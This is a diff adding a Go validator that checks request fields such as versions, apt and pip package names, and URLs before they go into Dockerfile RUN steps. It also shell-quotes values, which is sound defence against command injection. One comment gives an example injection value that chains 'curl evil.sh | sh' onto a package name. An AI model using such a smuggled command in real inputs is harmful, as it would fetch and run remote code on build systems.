@@ -0,0 +1,114 @@
+package main
+
+import (
+	"fmt"
+	"net/url"
+	"regexp"
+	"strings"
+)
+
+// Request fields end up in the Dockerfile, mostly inside RUN steps that a
+// shell interprets, so each is checked against what it is meant to hold
+// before rendering: a value like "foo && curl evil.sh | sh" is never a
+// package name. Values that may legitimately contain shell metacharacters,
+// such as "pandas>=2.0", are additionally rendered through ShellQuote.
+var (
+	airflowVersionPattern = regexp.MustCompile(`^[0-9]+\.[0-9]+\.[0-9]+((a|b|rc)[0-9]+|\.post[0-9]+)?$`)
+	pythonVersionPattern  = regexp.MustCompile(`^3\.[0-9]{1,2}$`)
+	extraPattern          = regexp.MustCompile(`^[A-Za-z0-9]+([._-][A-Za-z0-9]+)*$`)
+
+	// aptPackagePattern follows Debian package name rules, with an optional
+	// :arch qualifier and =version pin.
+	aptPackagePattern = regexp.MustCompile(`^[a-z0-9][a-z0-9+.-]+(:[a-z0-9-]+)?(=[A-Za-z0-9.+~:-]+)?$`)
+
+	// pipRequirementPattern is the subset of PEP 508 the factory accepts: a
+	// project name with optional extras and version specifiers. Environment
+	// markers are not allowed, and the only direct URL references are the
+	// Git ones matched by vcsRequirementPattern.
+	pipRequirementPattern = regexp.MustCompile(`^[A-Za-z0-9]([A-Za-z0-9._-]*[A-Za-z0-9])?` +
+		`(\[[A-Za-z0-9._-]+(,[A-Za-z0-9._-]+)*\])?` +
+		`([ \t]*(~=|===|==|!=|<=|>=|<|>)[ \t]*[A-Za-z0-9.*+!_-]+([ \t]*,[ \t]*(~=|===|==|!=|<=|>=|<|>)[ \t]*[A-Za-z0-9.*+!_-]+)*)?$`)
+
+	// shellSafe matches words a shell passes through unchanged.
+	shellSafe = regexp.MustCompile(`^[A-Za-z0-9._/:=@+,-]+$`)
+)
+
+// validateRequestFields checks the fields of req that are rendered into
+// RUN steps and FROM lines, reporting every field at fault.
+func validateRequestFields(req DockerBuildRequest) error {
+	var fields []fieldError
+	if !airflowVersionPattern.MatchString(req.AirflowVersion) {
+		fields = append(fields, fieldError{Field: "airflow_version", Code: codeFormat,
+			Message: fmt.Sprintf("must be a release such as 2.9.3, got %q", req.AirflowVersion)})
+	}
+	if !pythonVersionPattern.MatchString(req.PythonVersion) {
+		fields = append(fields, fieldError{Field: "python_version", Code: codeFormat,
+			Message: fmt.Sprintf("must look like 3.11, got %q", req.PythonVersion)})
+	}
+	for i, extra := range req.Extras {
+		if !extraPattern.MatchString(extra) {
+			fields = append(fields, fieldError{Field: fmt.Sprintf("extras[%d]", i), Code: codeFormat,
+				Message: fmt.Sprintf("Invalid extra %q", extra)})
+		}
+	}
+	for i, dep := range req.AptDeps {
+		if !aptPackagePattern.MatchString(dep) {
+			fields = append(fields, fieldError{Field: fmt.Sprintf("apt_deps[%d]", i), Code: codeFormat,
+				Message: fmt.Sprintf("Invalid apt package %q: expected a Debian package name, optionally with =version", dep)})
+		}
+	}
+	for i, dep := range req.PipDeps {
+		if pipRequirementPattern.MatchString(dep) {
+			continue
+		}
+		field := fmt.Sprintf("pip_deps[%d]", i)
+		if err := validateVCSRequirement(field, dep); err != nil {
+			collectFieldErrors(&fields, field, err)
+		}
+	}
+	return invalidFields(fields)
+}
+
+// validateURLField checks that raw is an absolute http(s) URL that can be
+// placed inside a double-quoted shell word as is.
+func validateURLField(field, raw string) error {
+	u, err := url.Parse(raw)
+	if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+		return fieldErrorf(field, codeFormat, "%s must be an http or https URL", field)
+	}
+	if strings.ContainsAny(raw, "\"'\\$` \t\r\n") {
+		return fieldErrorf(field, codeInvalid, "%s must not contain quotes, backslashes, '$', backticks or whitespace", field)
+	}
+	return nil
+}
+
+// shellQuote renders s as a single shell word, leaving plain words as they
+// are.
+func shellQuote(s string) string {
+	if shellSafe.MatchString(s) {
+		return s
+	}
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
+}
+
+const (
+	maxVerifyCommands      = 20
+	maxVerifyCommandLength = 1024
+)
+
+// validateVerifyCommands checks verification commands, which are shell by
+// design and run inside the build only, fit on a single RUN line each.
+func validateVerifyCommands(commands []string) error {
+	if len(commands) > maxVerifyCommands {
+		return fieldErrorf("verify", codeInvalid, "At most %d verify commands are allowed", maxVerifyCommands)
+	}
+	for _, c := range commands {
+		if strings.TrimSpace(c) == "" || len(c) > maxVerifyCommandLength {
+			return fieldErrorf("verify", codeInvalid, "Verify commands must be non-empty and at most %d characters", maxVerifyCommandLength)
+		}
+		if strings.ContainsAny(c, "\r\n") || strings.HasSuffix(c, "\\") {
+			return fieldErrorf("verify", codeInvalid, "Verify command %q must be a single line", c)
+		}
+	}
+	return nil
+}